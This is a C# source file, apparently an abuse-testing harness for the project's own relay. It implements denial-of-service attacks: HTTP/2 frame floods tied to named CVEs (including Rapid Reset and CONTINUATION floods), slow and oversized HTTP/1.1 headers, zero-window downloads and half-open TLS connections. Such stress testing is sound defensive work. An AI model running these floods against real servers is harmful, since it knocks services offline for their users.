using System.Text;
using Relay.Abuse.Wire;
using Relay.Testing.Http2;

namespace Relay.Abuse.Attacks;

/// <summary>The same bytes over and over.</summary>
internal abstract class Http2Flood(string name, string what) : Attack(name, what)
{
    private const int AtOnce = 100;

    public override void Run(Assault assault)
    {
        var bytes = Enumerable.Repeat(Frame(), AtOnce).SelectMany(static frame => frame).ToArray();
        assault.OnEach(() => assault.ConnectHttp2(First()), peer =>
        {
            peer.Drain();
            if (peer.Send(bytes))
                assault.Done += AtOnce;
            return !peer.IsOver;
        });
    }

    protected virtual byte[] First() => [];

    protected abstract byte[] Frame();
}

internal sealed class Http2Settings() : Http2Flood("h2-settings", "SETTINGS over and over, over HTTP/2 (CVE-2019-9515)")
{
    protected override byte[] Frame() => Frames.Setting(4, 65_536);
}

internal sealed class Http2Pings() : Http2Flood("h2-pings", "PING over and over, over HTTP/2 (CVE-2019-9512)")
{
    protected override byte[] Frame() => Frames.Write(Frames.Ping, 0, 0, new byte[8]);
}

internal sealed class Http2EmptyData() : Http2Flood("h2-empty-data", "DATA without a byte, over HTTP/2 (CVE-2019-9518)")
{
    protected override byte[] First() => Frames.Request(1, Frames.ConnectTo("127.0.0.1:9"));

    protected override byte[] Frame() => Frames.Write(Frames.Data, 0, 1, []);
}

internal sealed class Http2Priorities() : Http2Flood("h2-priorities", "PRIORITY of streams that are not there, over HTTP/2 (CVE-2019-9513)")
{
    protected override byte[] Frame() => Frames.Write(Frames.Priority, 0, 1001, [0, 0, 0, 0, 1]);
}

internal sealed class Http2Updates() : Http2Flood("h2-updates", "WINDOW_UPDATE of a byte each, over HTTP/2")
{
    protected override byte[] Frame() => Frames.Update(0, 1);
}

internal sealed class Http2Continuations() : Http2Flood("h2-continuations", "CONTINUATION without an end, over HTTP/2 (CVE-2024-27316)")
{
    protected override byte[] First() => Frames.Write(Frames.Headers, 0, 1, [0x82]);

    protected override byte[] Frame() => Frames.Write(Frames.Continuation, 0, 1, [0, 1, (byte)'a', 1, (byte)'b']);
}

/// <summary>One request after the other, each on a stream of its own.</summary>
internal abstract class Http2Streams(string name, string what) : Attack(name, what)
{
    private const int AtOnce = 50;

    public override void Run(Assault assault)
    {
        var next = new Dictionary<TlsPeer, int>();
        var framesOf = Frame(assault);
        assault.OnEach(() => assault.ConnectHttp2(), peer =>
        {
            var stream = next.GetValueOrDefault(peer, 1);
            var frames = new List<byte>();
            for (var i = 0; i < AtOnce; i++, stream += 2)
                frames.AddRange(framesOf(stream, assault.Done + i));
            next[peer] = stream;
            peer.Drain();
            // Of a relay that takes no more, what was not sent is not done.
            if (peer.Send([.. frames]))
                assault.Done += AtOnce;
            return !peer.IsOver;
        });
    }

    /// <summary>What is said on each stream: by its number, and that of its request among all.</summary>
    protected abstract Func<int, long, byte[]> Frame(Assault assault);
}

internal sealed class Http2Requests()
    : Http2Streams("h2-requests", "CONNECT to names that do not exist, on streams that are left open, over HTTP/2")
{
    public override int Bound => ManyRequests;

    protected override Func<int, long, byte[]> Frame(Assault assault) =>
        static (stream, index) => Frames.Request(stream, Frames.ConnectTo($"h{index}.invalid:443"));
}

internal sealed class Http2Resets() : Http2Streams("h2-resets", "CONNECT and RST_STREAM, over HTTP/2 (CVE-2023-44487)")
{
    protected override Func<int, long, byte[]> Frame(Assault assault)
    {
        var request = Frames.ConnectTo($"{assault.Targets.Holder}");
        return (stream, _) => [.. Frames.Request(stream, request), .. Frames.Write(Frames.ResetStream, 0, stream, Frames.Number(8))];
    }
}

/// <summary>Downloads by a client whose windows are never opened, and which reads nothing.</summary>
internal sealed class Http2Windows() : Attack("h2-windows", "downloads over HTTP/2 whose windows stay 0")
{
    public override void Run(Assault assault)
    {
        var request = Frames.ConnectTo($"{assault.Targets.Source}");
        assault.OnEach(
            () =>
            {
                var frames = new List<byte>(Frames.Setting(4, 0));
                for (var stream = 1; stream < 128; stream += 2, assault.Done++)
                    frames.AddRange(Frames.Request(stream, request));
                return assault.ConnectHttp2([.. frames]);
            },
            static peer =>
            {
                Thread.Sleep(1);
                return peer.Send(Frames.Write(Frames.Data, 0, 1, [0])) && !peer.IsOver;
            });
    }
}

/// <summary>Heads that never end, a byte at a time.</summary>
internal sealed class SlowHeads() : Attack("slow-heads", "heads of HTTP/1.1 that come a byte at a time and never end")
{
    public override void Run(Assault assault) => assault.OnEach(() => assault.ConnectTls("http/1.1"), peer =>
    {
        Thread.Sleep(5);
        peer.Drain();
        if (peer.Send("C"u8))
            assault.Done++;
        return !peer.IsOver;
    });
}

/// <summary>Heads as large as may be, over and over.</summary>
internal sealed class LargeHeads() : Attack("large-heads", "heads of HTTP/1.1 of 16 KiB without an end")
{
    public override void Run(Assault assault)
    {
        var head = Encoding.ASCII.GetBytes("CONNECT a.invalid:1 HTTP/1.1\r\nX: " + new string('x', 16_000));
        assault.OnEach(() => assault.ConnectTls("http/1.1"), peer =>
        {
            peer.Drain();
            if (peer.Send(head))
                assault.Done++;
            return !peer.IsOver;
        });
    }
}

/// <summary>TCP connections on which TLS is begun, or not even that.</summary>
internal sealed class HalfTls() : Attack("tls-handshakes", "TLS over TCP that is begun with three bytes and left")
{
    /// <summary>A TLS session.</summary>
    public override int Bound => 256;

    /// <summary>An eighth of --max-tls-handshakes.</summary>
    public override int HeldOf(int connections) => 512;

    public override void Run(Assault assault)
    {
        var left = new Queue<Socket>();
        while (!assault.IsOver)
        {
            if (assault.ConnectTcp() is not { } socket)
                continue;
            try
            {
                socket.Send([22, 3, 1]);
                assault.Done++;
            }
            catch (SocketException)
            {
                // Ended at once.
            }
            left.Enqueue(socket);
            if (left.Count > assault.MaxConnections * 10)
                left.Dequeue().Dispose();
        }
        while (left.TryDequeue(out var socket))
            socket.Dispose();
    }
}
